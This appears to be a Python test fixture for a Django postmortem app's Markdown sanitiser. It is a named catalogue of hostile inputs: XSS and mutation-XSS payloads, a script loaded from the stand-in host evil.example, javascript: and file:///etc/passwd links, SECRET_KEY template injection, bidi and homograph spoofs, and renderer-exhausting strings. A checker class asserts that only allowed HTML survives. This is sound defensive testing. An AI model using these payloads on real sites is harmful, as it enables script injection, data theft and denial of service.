"""Hostile texts by name, for every place where people's text is stored, rendered or shown.

All are at most 100 KB. `SCRIPTS` try to run something; `BROKEN` are malformed; `UNICODE` hold
characters that trip stores and pages; `HEAVY` take a Markdown renderer or a sanitiser very long.
`SafeReading` fails on rendered HTML that holds anything but what the product's sanitiser allows.
`through_forms` says how many drawn examples go through which forms.
"""

import re
from html.parser import HTMLParser

from django.db import connection
from hypothesis import HealthCheck, settings

from postmortems.rendering.sanitiser import TAGS

_LARGE = 100_000


def _filled(pattern: str, size: int = _LARGE) -> str:
    return pattern * (size // len(pattern.encode()))


SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-list": "- a\n\n    <script>alert(1)</script>\n",
    "script-in-code": "```html\n<script>alert(1)</script>\n```",
    "fence-language": '```"><script>alert(1)</script>\nx\n```',
    "fence-attributes": '``` {.python #top onclick="alert(1)"}\nx\n```',
    "handler-img": "<img src=x onerror=alert(1)>",
    "handler-block": '<div onclick="alert(1)">x</div>',
    "handler-slash": "<a/href=x/onmouseover=alert(1)>x</a>",
    "handler-in-title": '[x](http://a.example "onmouseover=alert(1)")',
    "attribute-break-out": '[x](http://a.example/"onmouseover="alert(1))',
    "attribute-break-out-title": "[x](http://a.example '\" onmouseover=\"alert(1)')",
    "image-alt-break-out": '![" onerror="alert(1)](http://a.example/x.png)',
    "javascript": "[x](javascript:alert(1))",
    "javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "javascript-entity": "[x](&#106;avascript:alert(1)) [y](java&#x73;cript&colon;alert(1))",
    "javascript-tab": "[x](java\tscript:alert(1)) [y](<java\nscript:alert(1)>)",
    "javascript-entity-tab": "[x](java&Tab;script:alert(1)) [y](java&#10;script:alert(1))",
    "javascript-leading-control": "[x](\x01javascript:alert(1)) [y](&#1;javascript:alert(1))",
    "javascript-escaped": "[x](java\\script:alert(1)) [y](\\javascript:alert(1))",
    "javascript-autolink": "<javascript:alert(1)> <JAVASCRIPT://x/%0aalert(1)>",
    "javascript-reference": "[x][r] ![y][r]\n\n[r]: javascript:alert(1)",
    "javascript-image": "![x](javascript:alert(1))",
    "javascript-anchor": '<a href="javascript:alert(1)">x</a>',
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg>)",
    "vbscript": "[x](vbscript:msgbox(1)) <vbscript:msgbox(1)>",
    "other-schemes": "[x](file:///etc/passwd) [y](blob:x) [z](view-source:x) [w](//a.example)",
    "remote-image": "![pixel](https://tracker.example/p.gif?who=me)",
    "svg": "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "svg-script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "style": "<style>@import 'http://a.example'; *{display:none}</style>",
    "style-attribute": '<p style="position:fixed;background:url(javascript:alert(1))">x</p>',
    "template": "<template><script>alert(1)</script></template>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="//a.example"><input name=csrfmiddlewaretoken autofocus></form>',
    "base-meta-link": "<base href=//a.example><meta http-equiv=refresh content=0><link rel=x>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "comment-broken": "<!--><script>alert(1)</script> --!> <!-- --> <![CDATA[ <x> ]]> <?php x ?>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mxss-math-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "mxss-svg-title": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mxss-textarea": '<textarea><p id="</textarea><img src=x onerror=alert(1)>">',
    "mxss-backtick": "<img src=`x` onerror=`alert(1)`> <listing>&lt;img onerror=alert(1)&gt;",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=x() )//%0A//</stYle/</scRipt>",
    "template-language": "{{ settings.SECRET_KEY }} {% load x %} {{a.constructor('x')()}}",
    "placeholder": "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03#106;",
    "id-clash": '# main\n\n<a id="content" name="body">x</a>\n\n[^1] x\n\n[^1]: y',
}

BROKEN = {
    "unclosed-tags": "<b><i><p><div><table><tr><td>x",
    "closing-only": "</div></main></body></html>x</p></section>",
    "attribute-unclosed": "<a href='x\n\ny <p title=\"z",
    "lone-signs": "< > & &amp &#; &#x; &#99999999; <> </> <!",
    "link-unclosed": "[x](http://a.example [y][ ![z](",
    "link-in-link": "[a [b](http://b.example) c](http://c.example) [![d](http://d.example)](http://e)",
    "link-empty": "[](http://a.example) ![](http://a.example/x.png) []() [][]",
    "fence-unclosed": "```python\nx = 1\n# not a heading",
    "emphasis-crossed": "**a *b** c* __d _e__ f_ ~~g **h~~ i**",
    "headings": "#\n\n##### five\n\n###### six\n\n####### seven\n\n===\n\n---",
    "table-ragged": "| a | b |\n|---|\n| 1 | 2 | 3 |\n||||\n",
    "crlf": "# a\r\n\r\n- b\r\n- c\r\n\rd\re",
    "white-space": " \t\n\u00a0\u2028\u2029\u200b\ufeff\n\t",
    "empty": "",
}

UNICODE = {
    "nul": "a\x00b [x](http://a.example/\x00) `\x00`",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "lone-surrogates": "a\ud800b \udfff **\udc00** [x](http://a.example/\ud83d)",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "right-to-left": "# שלום עולם\n\nمرحبا **بالعالم** with `code`",
    "bidi-controls": "invoice\u202egpj.exe \u2066x\u2069 \u202d \u061c\u200f",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽 **🔥** [🔗](http://a.example/🔥)",
    "combining": "Z" + "\u0351\u0310\u0345" * 300,
    "wide-and-case": "ﷺ" * 50 + " İı ſ K ß ŉ",
    "homograph": "[bank](https://аpple.example) <https://аpple.example>",
}

HEAVY = {
    "brackets": "[" * 5_000,
    "bracket-pairs": "[]" * 5_000,
    "image-brackets": "![" * 5_000,
    "links-unclosed": "[a](" * 10_000,
    "references": "[a][" * 10_000,
    "quotes-deep": ">" * 5_000 + " x",
    "quotes-stairs": "\n".join(">" * depth + " x" for depth in range(1, 200)),
    "lists-deep": "\n".join("  " * depth + "- x" for depth in range(300)),
    "lists-on-one-line": "- " * 10_000 + "x",
    "stars": "*" * 10_000,
    "star-words": "*a **b " * 5_000,
    "underscores": "_" * 10_000,
    "emphasis-nested": "*_" * 2_000 + "x" + "_*" * 2_000,
    "less-than": "<" * 50_000,
    "tags-unclosed": "<b>" * 10_000,
    "comments-unclosed": "<!--" * 20_000,
    "attributes": "<a " + "x=y " * 20_000,
    "ampersands": "&" * 50_000,
    "backticks": "`" * 50_000,
    "backticks-growing": " ".join("`" * count for count in range(1, 400)),
    "backslashes": "\\" * 50_000,
    "tildes": "~" * 50_000,
    "fences": "```\n" * 20_000,
    "table-wide": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "|b\n" * 10_000,
    "table-long": "|a|b|\n|-|-|\n" + "|1|2|\n" * 10_000,
    "definitions": "".join(f"[a{n}]: http://a.example\n" for n in range(3_000)),
    "definition-large": "[a]: http://a.example/" + "x" * 40_000 + "\n\n" + "[a] " * 10_000,
    "headings-many": "# x\n" * 20_000,
    "rules-many": "- - -\n" * 10_000,
    "addresses": "http://a.example/( " * 5_000,
    "schemes": "http://" * 14_000,
    "mail": "<a@" * 30_000,
    "spaces": "a" + " " * 90_000 + "b",
    "newlines": "\n" * _LARGE,
    "words": _filled("word "),
    "one-letter": "a" * _LARGE,
    "dashes": "-" * _LARGE,
    "pipes": "|" * _LARGE,
    "hashes": "#" * _LARGE,
    "greater-than": ">" * _LARGE,
    "parentheses": "(" * _LARGE,
    "emoji-large": _filled("🔥"),
}

HOSTILE_TEXTS = {**SCRIPTS, **BROKEN, **UNICODE, **HEAVY}

# How the 300 examples of the ordinary run are divided over the forms; 5,000 in the slow run.
# One of "small" goes through nine forms, one of "incident" and "records" through two.
SHARES = {"records": 110, "reviews": 90, "draft": 60, "small": 20, "incident": 20}
IN_SLOW_RUN = 5_000
# PostgreSQL sees every second of them: the forms answer the same before either is asked. What
# it refuses of its own accord (zero characters, large numbers) is among the named examples.
PART_HERE = 0.5 if connection.vendor == "postgresql" else 1


def through_forms(forms, *, at_length=False, parts=1):
    """The settings of one of ``parts`` tests that send drawn words through ``forms``."""
    total = sum(SHARES.values())
    examples = SHARES[forms] * (IN_SLOW_RUN if at_length else total) / total / parts
    return settings(
        max_examples=round(examples * (1 if at_length else PART_HERE)),
        deadline=None,
        database=None,
        derandomize=not at_length,
        suppress_health_check=list(HealthCheck),
    )


_SCROLL = {"tabindex": "0", "role": "group"}


class SafeReading(HTMLParser):
    """Reads HTML as a browser would, and complains about all that the page does not expect."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.open, self.tags, self.text = [], [], ""
        self.feed(html)
        self.close()
        assert self.open == [], "every tag is closed"

    def handle_starttag(self, tag, attributes):
        assert tag in TAGS | {"div", "span"}
        assert len(dict(attributes)) == len(attributes)
        self.check_attributes(tag, dict(attributes))
        self.tags.append(tag)
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def check_attributes(self, tag, found):
        expected = {}
        if tag == "a":
            own = r"/postmortems/\d{1,9}/\Z|/timeline/\d{1,18}/\Z"
            assert re.match(rf"(?i)(https?://|mailto:)[^\s]|{own}", found["href"])
            assert "a" not in self.open
            expected = {"href": found["href"], "rel": "nofollow noopener noreferrer"}
        elif tag == "div":
            expected = _SCROLL | {"class": "table-scroll", "aria-label": "Table"}
        elif tag == "span":
            assert self.open[-2:] == ["pre", "code"]
            assert re.fullmatch("hl-[a-z]{1,10}", found["class"])
            expected = {"class": found["class"]}
        elif tag == "pre":
            expected = _SCROLL | {"aria-label": "Code"}
        elif tag in ("td", "th") and found:
            assert found["align"] in ("left", "center", "right")
            expected = {"align": found["align"]}
        elif tag == "ol" and found:
            assert re.fullmatch("[0-9]{1,9}", found["start"])
            expected = {"start": found["start"]}
        elif tag == "code" and found:
            assert re.fullmatch(r"language-[\w+#.-]{1,40}", found["class"])
            expected = {"class": found["class"]}
        assert found == expected

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def refuse(self, *_):
        raise AssertionError("a comment, declaration or instruction")

    handle_comment = handle_decl = handle_pi = unknown_decl = refuse
